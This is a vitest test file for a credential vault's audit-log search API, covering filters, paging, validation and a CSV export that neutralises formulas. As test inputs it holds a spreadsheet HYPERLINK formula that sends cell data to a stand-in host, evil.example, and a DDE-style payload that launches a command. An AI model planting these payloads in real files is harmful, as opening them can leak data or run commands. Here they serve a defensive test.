import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, csvRecord } from '../src/routes/csv.js';
import { backends } from './helpers/databases.js';
import {
	addClients,
	asAdmin,
	asInternal,
	startTestVault,
	type TestVault,
} from './helpers/vault-app.js';

interface Entry {
	id: number;
	occurred_at: string;
	action: string;
	client_id: string | null;
	service: string | null;
	status_code: number | null;
	error_code: string | null;
	workflow_id: string | null;
	execution_id: string | null;
}
interface Page {
	entries: Entry[];
	next_before_id: number | null;
}

const INJECTED_WORKFLOW = '=HYPERLINK("https://evil.example/?x="&A1,"click")';

/** The rows of one search, every page walked with `before_id`. */
async function everyPage(vault: TestVault, query: string, limit: number): Promise<Entry[][]> {
	const pages: Entry[][] = [];
	let before: number | null = null;
	do {
		const cursor: string = before === null ? '' : `&before_id=${before}`;
		const response = await vault.app.inject({
			url: `/v1/audit?${query}&limit=${limit}${cursor}`,
			headers: asAdmin,
		});
		expect(response.statusCode, response.body).toBe(200);
		const page = response.json<Page>();
		pages.push(page.entries);
		before = page.next_before_id;
	} while (before !== null && pages.length < 100);
	return pages;
}

const search = async (vault: TestVault, query: string) => {
	const response = await vault.app.inject({ url: `/v1/audit?${query}`, headers: asAdmin });
	expect(response.statusCode, response.body).toBe(200);
	return response.json<Page>().entries;
};

describe('CSV fields (RFC 4180, formula injection)', () => {
	it.each([
		['plain', 'plain'],
		['a,b', '"a,b"'],
		['say "hi"', '"say ""hi"""'],
		['two\r\nlines', '"two\r\nlines"'],
		['=1+2', "'=1+2"],
		['+1', "'+1"],
		['-1', "'-1"],
		['@SUM(A1)', "'@SUM(A1)"],
		['\tx', "'\tx"],
		['\rx', '"\'\rx"'],
		// a spreadsheet whose list separator is `;` would start a new cell, a formula, after it
		[';=1+1', '";=1+1"'],
		['=A1,"b"', '"\'=A1,""b"""'],
	])('%j is written %j', (value, written) => {
		expect(csvField(value)).toBe(written);
	});

	it('writes numbers as they are, null as empty, objects as JSON, records ending in CRLF', () => {
		expect(csvRecord([404, null, undefined, { a: 1 }])).toBe('404,,,"{""a"":1}"\r\n');
	});
});

describe.each(backends())('audit search on %s', (backend) => {
	let vault: TestVault;
	const fetchAs = (clientId: string, service: string, headers: Record<string, string>) =>
		vault.app.inject({
			url: `/v1/credentials/${clientId}/${service}`,
			headers: { ...asInternal, ...headers },
		});

	beforeAll(async () => {
		vault = await startTestVault(backend);
		await addClients(vault, ['acme', 'globex']);
		for (const name of ['openai', 'mailer'])
			await vault.app.inject({
				method: 'POST',
				url: '/v1/services',
				headers: asAdmin,
				payload: { name, display_name: name, oauth_type: 'api_key' },
			});
		for (const [client, service] of [
			['acme', 'openai'],
			['globex', 'mailer'],
		])
			await vault.app.inject({
				method: 'PUT',
				url: `/v1/clients/${client}/connections/${service}`,
				headers: asAdmin,
				payload: { api_key: 'sk-test-value-1234567890' },
			});
		for (let n = 1; n <= 5; n += 1)
			await fetchAs('acme', 'openai', {
				'x-n8n-workflow-id': 'wf-invoices',
				'x-n8n-execution-id': `ex-${n}`,
			});
		await fetchAs('globex', 'mailer', { 'x-n8n-workflow-id': 'wf-mail' });
		// a failure: globex has no openai connection
		await fetchAs('globex', 'openai', { 'x-n8n-workflow-id': 'wf-mail' });
		await fetchAs('acme', 'openai', {
			'x-n8n-workflow-id': INJECTED_WORKFLOW,
			'user-agent': '@SUM(1+1)*cmd|"/C calc"!A0',
		});
	});
	afterAll(() => vault?.close());

	it('filters by client, service, action, workflow, execution and outcome', async () => {
		const byClient = await search(vault, 'client_id=globex');
		expect(byClient.length).toBeGreaterThanOrEqual(2);
		expect(byClient.every((row) => row.client_id === 'globex')).toBe(true);

		const byService = await search(vault, 'service=mailer&action=credential.fetch');
		expect(byService.map((row) => [row.client_id, row.service, row.action])).toEqual([
			['globex', 'mailer', 'credential.fetch'],
		]);

		const byWorkflow = await search(vault, 'workflow_id=wf-invoices');
		expect(byWorkflow.map((row) => row.execution_id)).toEqual([
			'ex-5',
			'ex-4',
			'ex-3',
			'ex-2',
			'ex-1',
		]);
		expect(
			(await search(vault, 'execution_id=ex-3')).map((row) => [row.workflow_id, row.execution_id]),
		).toEqual([['wf-invoices', 'ex-3']]);

		const failures = await search(vault, 'outcome=failure&action=credential.fetch');
		expect(failures.map((row) => [row.client_id, row.service, row.status_code])).toEqual([
			['globex', 'openai', 404],
		]);
		expect(failures[0]!.error_code).toBe('CONNECTION_NOT_FOUND');
		const successes = await search(vault, 'outcome=success&workflow_id=wf-mail');
		expect(successes.map((row) => [row.service, row.status_code])).toEqual([['mailer', 200]]);
	});

	it('filters by a time range: since inclusive, until exclusive', async () => {
		const rows = await search(vault, 'workflow_id=wf-invoices');
		const oldest = rows.at(-1)!;
		const newest = rows[0]!;
		const since = await search(
			vault,
			`workflow_id=wf-invoices&since=${encodeURIComponent(newest.occurred_at)}`,
		);
		expect(since.map((row) => row.id)).toContain(newest.id);
		expect(since.every((row) => row.occurred_at >= newest.occurred_at)).toBe(true);
		const until = await search(
			vault,
			`workflow_id=wf-invoices&until=${encodeURIComponent(oldest.occurred_at)}`,
		);
		expect(until).toEqual([]);
		const far = await search(vault, 'since=2000-01-01T00:00:00Z&until=2000-01-02T00:00:00Z');
		expect(far).toEqual([]);
	});

	it('pages newest first with before_id, each row once, the last page saying so', async () => {
		const all = await search(vault, 'limit=1000');
		const pages = await everyPage(vault, 'client_id=acme', 2);
		const paged = pages.flat();
		expect(pages.slice(0, -1).every((page) => page.length === 2)).toBe(true);
		expect(paged.map((row) => row.id)).toEqual(
			all.filter((row) => row.client_id === 'acme').map((row) => row.id),
		);
		expect(new Set(paged.map((row) => row.id)).size).toBe(paged.length);
		const times = paged.map((row) => row.occurred_at);
		expect(times).toEqual([...times].sort().reverse());
	});

	it('answers an empty last page for a before_id no row has', async () => {
		const response = await vault.app.inject({
			url: '/v1/audit?before_id=999999999',
			headers: asAdmin,
		});
		expect(response.json()).toEqual({ entries: [], next_before_id: null });
	});

	it('exports the search as CSV, every row, with formulas neutralised', async () => {
		const response = await vault.app.inject({
			url: '/v1/audit.csv?client_id=acme',
			headers: asAdmin,
		});
		expect(response.statusCode).toBe(200);
		expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
		expect(response.headers['content-disposition']).toBe('attachment; filename="audit.csv"');
		const records = response.body.split('\r\n');
		expect(records.at(-1)).toBe('');
		expect(records[0]).toBe(
			'id,occurred_at,request_id,actor_id,actor_name,action,client_id,service,status_code,' +
				'error_code,ip,user_agent,duration_ms,workflow_id,execution_id,details,hash',
		);
		const rows = await search(vault, 'client_id=acme&limit=1000');
		expect(records.slice(1, -1).map((record) => Number(record.split(',')[0]))).toEqual(
			rows.map((row) => row.id),
		);
		expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`);
		expect(response.body).toContain(`"'@SUM(1+1)*cmd|""/C calc""!A0"`);
		expect(response.body).not.toMatch(/(^|,)[=@]/m);
	});

	it('pages the CSV export through more rows than one statement reads', async () => {
		const { everyAuditRow } = await import('../src/domain/audit-search.js');
		const ids: number[] = [];
		for await (const row of everyAuditRow(vault.database.db, { clientId: 'acme' }, 2))
			ids.push(row.id);
		const rows = await search(vault, 'client_id=acme&limit=1000');
		expect(ids).toEqual(rows.map((row) => row.id));
	});

	it.each([
		['an unknown outcome', '/v1/audit?outcome=maybe'],
		['since after until', '/v1/audit?since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z'],
		['since equal to until', '/v1/audit?since=2026-02-01T00:00:00Z&until=2026-02-01T00:00:00Z'],
		['until not a date', '/v1/audit?until=tomorrow'],
		['before_id 0', '/v1/audit?before_id=0'],
		['before_id not a number', '/v1/audit?before_id=abc'],
		['before_id past any bigint', '/v1/audit?before_id=99999999999999999999999'],
		['before_id the largest bigint', '/v1/audit?before_id=9223372036854775807'],
		['before_id 1e30', '/v1/audit?before_id=1e30'],
		['an action with capitals', '/v1/audit?action=DROP%20TABLE'],
		['an empty workflow id', '/v1/audit?workflow_id='],
		['a workflow id of 129 characters', `/v1/audit?workflow_id=${'w'.repeat(129)}`],
		['a CSV export with a limit', '/v1/audit.csv?limit=5'],
		[
			'a CSV export with since after until',
			'/v1/audit.csv?since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z',
		],
	])('refuses %s with 400 VALIDATION_FAILED as JSON', async (_name, url) => {
		const response = await vault.app.inject({ url, headers: asAdmin });
		expect(response.statusCode).toBe(400);
		expect(response.headers['content-type']).toMatch(/^application\/json/);
		expect(response.json().code).toBe('VALIDATION_FAILED');
	});

	it('needs an admin token for the export too', async () => {
		const response = await vault.app.inject({ url: '/v1/audit.csv', headers: asInternal });
		expect(response.statusCode).toBe(403);
		expect(response.json().code).toBe('FORBIDDEN');
	});
});
